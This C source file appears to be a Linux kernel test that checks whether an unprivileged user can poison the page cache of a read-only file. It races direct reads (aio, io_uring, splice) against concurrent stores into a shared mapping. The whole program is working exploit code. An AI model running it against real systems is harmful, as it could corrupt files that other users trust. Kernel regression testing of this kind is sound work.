// SPDX-License-Identifier: GPL-2.0
/*
 * poison READ STORE VICTIM MINE: as an unprivileged user, reads VICTIM, which it may only read, around the page cache into a
 * shared mapping of its own file MINE, while a thread stores other bytes there; then has MINE's pages dropped from the page
 * cache. A cache that takes such pages for VICTIM's gives them to whoever reads VICTIM next. READ: direct, aio, ring
 * (io_uring), fixed (a buffer that is registered there), splice (through a pipe into the file). STORE: map, writev
 * (process_vm_writev), splice (vmsplice, then splice into the file), sendfile. Exit status 77: the kernel refuses that.
 */
#include <errno.h>
#include <error.h>
#include <fcntl.h>
#include <grp.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

#include <linux/aio_abi.h>

#include <liburing.h>

#define LEN (64 * 4096)
#define NOBODY 65534
#define REFUSED 77

static char *map;
static int mine;
static char bytes[LEN]; /* of the user, page after page */
static const char *how_to_store;
static atomic_bool stop;
static atomic_uint stores;

static int memory_file(void)
{
	int fd = memfd_create("bytes", MFD_CLOEXEC);

	if (fd < 0 || pwrite(fd, bytes, LEN, 0) != LEN)
		error(1, errno, "memfd");
	return fd;
}

/* Through a pipe, from the file @from or, if that is -1, from memory. */
static void splice_to_mine(int from)
{
	struct iovec piece = { bytes, LEN };
	loff_t at = 0, in = 0;
	int ends[2];
	ssize_t n;

	if (pipe2(ends, O_CLOEXEC) || fcntl(ends[0], F_SETPIPE_SZ, LEN) < 0)
		_exit(REFUSED);
	while (at < LEN) {
		n = from < 0 ? vmsplice(ends[1], &piece, 1, 0) : splice(from, &in, ends[1], NULL, (size_t)(LEN - at), 0);
		while (n > 0) {
			ssize_t moved = splice(ends[0], NULL, mine, &at, (size_t)n, 0);

			if (moved <= 0)
				_exit(REFUSED);
			n -= moved;
		}
		if (n < 0)
			_exit(REFUSED);
		piece.iov_len = (size_t)(LEN - at);
	}
	close(ends[0]);
	close(ends[1]);
}

static void store_once(int source)
{
	struct iovec from = { bytes, LEN }, to = { map, LEN };
	off_t at = 0;

	if (!strcmp(how_to_store, "map"))
		memcpy(map, bytes, LEN);
	else if (!strcmp(how_to_store, "writev"))
		process_vm_writev(getpid(), &from, 1, &to, 1, 0);
	else if (!strcmp(how_to_store, "splice"))
		splice_to_mine(-1);
	else if (lseek(mine, 0, SEEK_SET) || sendfile(mine, source, &at, LEN) <= 0)
		error(1, errno, "sendfile");
}

static void *store(void *unused)
{
	int source = memory_file();

	while (!stop) {
		store_once(source);
		stores++;
	}
	close(source);
	return unused;
}

static int open_file(const char *path, int flags)
{
	int fd = open(path, flags | O_CLOEXEC, 0600);

	if (fd < 0)
		error(1, errno, "%s", path);
	return fd;
}

static void read_by_ring(int fd, bool fixed)
{
	struct iovec buffer = { map, LEN };
	struct io_uring_cqe *cqe;
	struct io_uring_sqe *sqe;
	struct io_uring ring;
	int err = io_uring_queue_init(4, &ring, 0);

	if (err || (fixed && io_uring_register_buffers(&ring, &buffer, 1)))
		_exit(REFUSED);
	sqe = io_uring_get_sqe(&ring);
	if (fixed)
		io_uring_prep_read_fixed(sqe, fd, map, LEN, 0, 0);
	else
		io_uring_prep_read(sqe, fd, map, LEN, 0);
	if (io_uring_submit(&ring) != 1 || io_uring_wait_cqe(&ring, &cqe) || cqe->res != LEN)
		error(1, 0, "read by io_uring");
	io_uring_queue_exit(&ring);
}

static void read_by_aio(int fd)
{
	struct iocb io = { .aio_lio_opcode = IOCB_CMD_PREAD, .aio_buf = (uintptr_t)map, .aio_nbytes = LEN }, *list[] = { &io };
	aio_context_t context = 0;
	struct io_event event;

	io.aio_fildes = (uint32_t)fd;
	if (syscall(SYS_io_setup, 1, &context) || syscall(SYS_io_submit, context, 1, list) != 1 ||
	    syscall(SYS_io_getevents, context, 1, 1, &event, NULL) != 1 || event.res != LEN)
		error(1, errno, "read by aio");
	syscall(SYS_io_destroy, context);
}

static void read_around(int fd, const char *how)
{
	if (!strcmp(how, "ring") || !strcmp(how, "fixed"))
		read_by_ring(fd, !strcmp(how, "fixed"));
	else if (!strcmp(how, "aio"))
		read_by_aio(fd);
	else if (!strcmp(how, "splice"))
		splice_to_mine(fd);
	else if (pread(fd, map, LEN, 0) != LEN && errno != EIO) /* btrfs sees a sum that is not the file's */
		error(1, errno, "direct read");
}

int main(int argc, char **argv)
{
	static char zero[LEN];
	unsigned int before;
	int direct, victim;
	pthread_t thread;

	if (argc != 5)
		error(2, 0, "usage: poison READ STORE VICTIM MINE");
	how_to_store = argv[2];
	memset(bytes, 'X', LEN);
	if (setgroups(0, NULL) || setgid(NOBODY) || setuid(NOBODY))
		error(1, errno, "setuid");
	direct = open_file(argv[3], O_RDONLY | O_DIRECT);
	victim = open_file(argv[3], O_RDONLY);
	mine = open_file(argv[4], O_RDWR | O_CREAT);
	if (open(argv[3], O_RDWR) >= 0)
		error(1, 0, "%s is writable, so nothing is shown", argv[3]);
	if (pwrite(mine, zero, LEN, 0) != LEN || fsync(mine))
		error(1, errno, "%s", argv[4]);
	map = mmap(NULL, LEN, PROT_READ | PROT_WRITE, MAP_SHARED, mine, 0);
	if (map == MAP_FAILED)
		error(1, errno, "mmap");
	posix_fadvise(victim, 0, 0, POSIX_FADV_DONTNEED);
	read_around(direct, argv[1]); /* takes out of a store what is there */
	errno = pthread_create(&thread, NULL, store, NULL);
	if (errno)
		error(1, errno, "thread");
	while (!stores)
		;
	read_around(direct, argv[1]);
	/* The mapping is the user's bytes all over once more before its pages go. */
	for (before = stores; stores < before + 2;)
		;
	stop = true;
	pthread_join(thread, NULL);
	if (msync(map, LEN, MS_SYNC) || munmap(map, LEN) || fsync(mine))
		error(1, errno, "%s", argv[4]);
	posix_fadvise(mine, 0, 0, POSIX_FADV_DONTNEED);
	return 0;
}
